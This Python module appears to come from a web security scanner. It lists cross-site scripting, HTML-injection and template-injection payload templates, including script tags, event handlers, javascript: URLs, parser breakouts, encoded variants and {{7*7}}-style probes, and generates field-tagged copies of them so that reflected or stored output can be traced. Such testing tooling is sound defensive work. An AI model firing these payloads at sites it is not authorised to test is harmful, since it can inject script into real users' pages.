"""Texts that would run something, were they not shown as text. `@` stands for the mark."""

import re
from collections.abc import Iterator

# ruff: noqa: E501  one text a line
TEMPLATES = [
    # Elements
    "<script>@</script>", "<SCRIPT SRC=//e.x/@></SCRIPT>", "<scr<script>ipt>@</scr</script>ipt>",
    "<script/@>@</script/@>", "<script\n>@</script\n>", "<<script>@//<</script>", "<script>@",
    "<img src=x onerror=@>", "<img src=@ onerror='@'>", "<IMG \"\"\"><SCRIPT>@</SCRIPT>\">",
    "<image src=@ onerror=@>", "<iframe src=javascript:@>", "<iframe srcdoc='<b id=@>'>",
    "<object data=javascript:@>", "<embed src=javascript:@>", "<video><source onerror=@>",
    "<audio src=x onerror=@>", "<body onload=@>", "<input autofocus onfocus=@>",
    "<select autofocus onfocus=@>", "<textarea autofocus onfocus=@>", "<keygen autofocus onfocus=@>",
    "<details open ontoggle=@>", "<marquee onstart=@>", "<button id=@>@</button>",
    "<form action=javascript:@><button>", "<base href=//@/>", "<meta http-equiv=refresh content=0;@>",
    "<link rel=stylesheet href=//@>", "<style>@import'//@'</style>", "<style onload=@>",
    "<a href=javascript:@>@</a>", "<a href=data:text/html,@>@</a>", "<@ onclick=@>", "<p id=@ class=@>",
    # Out of attributes, of other elements, of comments
    "\" onmouseover=@ \"", "' onmouseover=@ '", "\"><b id=@>", "'><b id=@>", "` onclick=@ `",
    "</title><b id=@>", "</textarea><b id=@>", "</script><b id=@>", "</style><b id=@>",
    "</option></select><b id=@>", "--><b id=@>", "<!--@-->", "<!--><b id=@>-->", "]]><b id=@>",
    "<![CDATA[<b id=@>]]>", "<?xml @?>", "<!doctype @>",
    # Drawings, formulas, and what parsers put elsewhere
    "<svg onload=@>", "<svg><script>@</script>", "<svg><a xlink:href=javascript:@><text>@",
    "<svg><animate onbegin=@>", "<svg><style><img src=@ onerror=@>", "<math><mtext><b id=@>",
    "<math><mi xlink:href=javascript:@>@", "<noscript><p title='</noscript><b id=@>'>",
    "<table><td><b id=@>", "<xmp><p title='</xmp><b id=@>'>", "<template><b id=@>",
    "<form><math><mtext></form><form><mglyph><style></math><b id=@>",
    # Entities, encodings, other alphabets
    "&lt;b id=@&gt;", "&#60;b id=@&#62;", "&#x3c;b id=@&#x3e;", "%3Cb%20id=@%3E", "\\u003cb id=@\\u003e",
    "＜b id=@＞", "\u202e<b id=@>", "<\u200bb id=@>",
    # Markdown, addresses, templates
    "[@](javascript:@)", "[@](data:text/html,@)", "![@](javascript:@)", "<javascript:@>",
    "[@](<java\tscript:@>)", "[@]: javascript:@", "[@](https://e.x/\"onclick=\"@)", "`<b id=@>`",
    "javascript:@", "jav&#x09;ascript:@", "data:text/html,<b id=@>", "vbscript:@", "//e.x/@",
    "{{ 7|add:@ }}", "{{7*7}}@", "{% debug %}@", "${7*7}@", "<%= 7*7 %>@", "';@//", "\";@//",
]  # fmt: skip

MARK = re.compile(r"zq(\d{3})p(\d\d)z")


def marked(template: int, field: int) -> str:
    """The payload with a mark that tells it and the field it was planted in."""
    return TEMPLATES[template].replace("@", f"zq{field:03}p{template:02}z")


def texts(field: int, limit: int | None, number: int = 0) -> Iterator[str]:
    """All payloads for the field, one below the other, in as many texts as the limit makes of them.

    Each text ends with an empty line, so that no payload begins in the middle of another's; with
    `number` they begin elsewhere in the list. Payloads longer than the limit are left out.
    """
    text = ""
    for template in range(len(TEMPLATES)):
        payload = marked((template + number) % len(TEMPLATES), field)
        longer = f"{text}\n\n{payload}" if text else payload
        if limit is None or len(longer) <= limit:
            text = longer
        elif len(payload) <= limit:
            yield text
            text = payload
    yield text
